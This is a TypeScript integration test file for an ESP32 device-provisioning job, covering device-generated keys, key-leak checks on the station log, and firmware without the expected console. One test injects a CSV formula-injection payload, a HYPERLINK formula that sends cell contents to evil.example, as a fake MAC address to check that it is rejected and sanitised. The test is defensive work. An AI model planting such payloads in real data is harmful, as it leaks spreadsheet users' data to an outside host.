import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ApiClientIssuer } from '../../src/main/certs/api-client-issuer.js';
import type { SerialDeviceDescriptor, SerialLink, SerialLinkOpenOptions, SerialSignals } from '../../src/main/devices/serial-link.js';
import { SerialPortLink } from '../../src/main/devices/serialport-link.js';
import { loadBundle, type FirmwareBundle } from '../../src/main/esp32/bundle.js';
import { esp32ProvisionJob, type Esp32JobSettings } from '../../src/main/esp32/provision-job.js';
import { JobQueue } from '../../src/main/jobs/index.js';
import { StationLog } from '../../src/main/log/index.js';
import { BrokerMonitor } from '../../src/main/monitor/index.js';
import { buildDeviceHost, startHostDevice } from '../firmware/host-build.js';
import { startEsp32Sim } from '../sim/esp32/launch.js';
import { SimDeviceSource } from '../sim/esp32/sim-device-source.js';
import { startBackend, type Backend } from '../support/backend.js';
import { tempDir } from '../support/temp.js';

// Device-key mode of the ESP32 job: the key is born in the firmware (its console, tds-console/1),
// the station only carries the CSR to the server and the certificate back. The firmware side is the
// real firmware core built for the host (tds-device-host on a pty) going online on real Mosquitto.
const MANIFEST = path.resolve(import.meta.dirname, '../fixtures/bundle-arduino/manifest.json');

/**
 * The wire between the station and a real host console, with the console's `info` reply changed on
 * the way: the board (or whatever sits on the port) reports `mac` as the given text.
 */
class MacRewritingLink implements SerialLink {
  private readonly inner: SerialPortLink;
  constructor(
    portPath: string,
    private readonly reportedMac: string,
  ) {
    this.inner = new SerialPortLink(portPath);
  }
  get path(): string {
    return this.inner.path;
  }
  get isOpen(): boolean {
    return this.inner.isOpen;
  }
  open(options: SerialLinkOpenOptions): Promise<void> {
    return this.inner.open(options);
  }
  write(data: Uint8Array): Promise<void> {
    return this.inner.write(data);
  }
  onData(listener: (chunk: Uint8Array) => void): () => void {
    let pending = '';
    return this.inner.onData((chunk) => {
      pending += Buffer.from(chunk).toString('utf8');
      const end = pending.lastIndexOf('\n');
      if (end < 0) return;
      const lines = pending.slice(0, end + 1);
      pending = pending.slice(end + 1);
      listener(Buffer.from(lines.replace(/"mac":"[^"]*"/g, `"mac":${JSON.stringify(this.reportedMac)}`), 'utf8'));
    });
  }
  onClose(listener: (error?: Error) => void): () => void {
    return this.inner.onClose(listener);
  }
  setSignals(signals: SerialSignals): Promise<void> {
    return this.inner.setSignals(signals);
  }
  setBaudRate(baudRate: number): Promise<void> {
    return this.inner.setBaudRate(baudRate);
  }
  close(): Promise<void> {
    return this.inner.close();
  }
}

describe('ESP32 job in device-key mode', () => {
  let backend: Backend;
  let monitor: BrokerMonitor;
  let issuer: ApiClientIssuer;
  let bundle: FirmwareBundle;
  let log: StationLog;
  const dir = tempDir('tds-devkey-job-');
  const queue = new JobQueue();

  beforeAll(async () => {
    buildDeviceHost();
    backend = await startBackend({ broker: 'mosquitto', monitorName: 'devkey-test' });
    monitor = await BrokerMonitor.connect({
      host: backend.broker.host,
      port: backend.broker.port,
      ca: backend.monitor.caPem,
      cert: backend.monitor.certPem,
      key: backend.monitor.keyPem,
    });
    issuer = new ApiClientIssuer(backend.server.client('operator'), 'device');
    bundle = await loadBundle(MANIFEST);
    log = StationLog.open(path.join(dir.path, 'log.sqlite'), { stationId: 'devkey' });
    log.attach(queue);
  }, 300_000);

  afterAll(async () => {
    await queue.shutdown();
    log?.close();
    issuer?.close();
    await monitor?.close();
    await backend?.stop();
    dir.remove();
  });

  const settings = (over: Partial<Esp32JobSettings> = {}): Esp32JobSettings => ({
    accountId: backend.server.contaId,
    codeTemplate: 'DK-{mac12}',
    nameTemplate: 'Device key {mac12}',
    broker: { host: backend.broker.host, port: backend.broker.port },
    wifi: { ssid: 'bench', password: 'bench-pass' },
    resetMode: 'auto',
    onlineTimeoutMs: 30_000,
    keyType: 'ec',
    keyMode: 'device',
    operator: 'tester',
    stationId: 'devkey',
    reprovision: 'revoke',
    ...over,
  });

  it('re-keys a board running the TDS firmware through its console; it comes online with a device-made key', async () => {
    const mac = '24:6f:28:dd:00:01';
    const devDir = tempDir('tds-devkey-host-');
    const host = await startHostDevice(devDir.path, mac);
    try {
      const device: SerialDeviceDescriptor = { id: host.port, path: host.port, resetMode: 'auto', likelyEsp32: true };
      const id = queue.submit(
        esp32ProvisionJob({
          device,
          openLink: () => new SerialPortLink(host.port),
          bundle,
          issuer,
          monitor,
          settings: settings(),
          firmwareInstalled: true,
        }),
      );
      const final = await queue.wait(id);
      expect(final.error).toBeUndefined();
      expect(final.state).toBe('succeeded');
      expect(final.steps.map((s) => [s.name, s.status])).toEqual([
        ['certificate', 'done'],
        ['online', 'done'],
      ]);
      expect(final).toMatchObject({ mac, gatewayCode: 'DK-246f28dd0001' });
      const gw = (await backend.server.client('operator').listGateways({ mac })).results[0]!;
      expect(gw.active_certificate).toMatchObject({ key_origin: 'device' });
      expect(BigInt(`0x${gw.active_certificate!.serial_number}`)).toBe(BigInt(`0x${final.certificateSerial}`));
      expect(monitor.presence(mac).status).toBe('online');
      // The device key never passed through the station: not in the station log either.
      const devKey = JSON.parse(readFileSync(path.join(devDir.path, 'nvs.json'), 'utf8')) as Record<string, Record<string, { value: string }>>;
      const keyPem = devKey.tds_dev!.key_pem!.value;
      const bytes = Buffer.concat(readdirSync(dir.path).map((f) => readFileSync(path.join(dir.path, f))));
      for (const line of keyPem.split('\n').filter((l) => l.length >= 40)) expect(bytes.includes(Buffer.from(line))).toBe(false);
    } finally {
      await host.stop();
      devDir.remove();
    }
  }, 120_000);

  it('spreadsheet formula injection: a board that reports a formula as its MAC fails clearly, and nothing raw reaches the station log or its CSV', async () => {
    const realMac = '24:6f:28:dd:00:03';
    const formula = `=HYPERLINK("http://evil.example/?leak="&A1,"${realMac}")`;
    const devDir = tempDir('tds-devkey-host-');
    const host = await startHostDevice(devDir.path, realMac);
    try {
      const device: SerialDeviceDescriptor = { id: host.port, path: host.port, resetMode: 'auto', likelyEsp32: true };
      const id = queue.submit(
        esp32ProvisionJob({ device, openLink: () => new MacRewritingLink(host.port, formula), bundle, issuer, monitor, settings: settings(), firmwareInstalled: true }),
      );
      const final = await queue.wait(id);
      expect(final.state).toBe('failed');
      expect(final.error).toMatchObject({ code: 'DEVICE_CONSOLE_FAILED', message: expect.stringMatching(/invalid MAC.*is not a MAC address/) });
      expect(final.mac).toBeUndefined();
      expect(final.gatewayCode).toBeUndefined();
      // Nothing was asked of the server for any MAC, and the log holds no device-reported MAC at all.
      expect((await backend.server.client('operator').listGateways({ mac: realMac })).results).toEqual([]);
      expect(log.get(id)).toMatchObject({ result: 'failed', mac: null, gatewayCode: null });
      const csv = log.exportCsv({ target: host.port });
      expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
      for (const line of csv.split('\n').slice(1)) for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    } finally {
      await host.stop();
      devDir.remove();
    }
  }, 120_000);

  it('after flashing firmware without the TDS console, says so instead of hanging', async () => {
    const sim = await startEsp32Sim({ mac: '24:6f:28:dd:00:02' });
    const source = new SimDeviceSource();
    try {
      await source.add(sim);
      const [device] = await source.list();
      const final = await queue.wait(
        queue.submit(
          esp32ProvisionJob({ device: device!, openLink: () => source.link(device!), bundle, issuer, monitor, settings: settings({ consoleBootTimeoutMs: 3000 }) }),
        ),
      );
      expect(final.steps.map((s) => [s.name, s.status])).toEqual([
        ['probe', 'done'],
        ['flash', 'done'],
        ['reboot', 'done'],
        ['certificate', 'failed'],
        ['online', 'pending'],
      ]);
      expect(final.error).toMatchObject({ code: 'DEVICE_CONSOLE_FAILED', hint: expect.stringMatching(/TDS firmware/) });
      // The data partition was erased, so no earlier key or config can survive on the board.
      expect(sim.readFlash(0x310000, 0x10000).every((b) => b === 0xff)).toBe(true);
    } finally {
      source.close();
      await sim.stop();
    }
  }, 120_000);
});
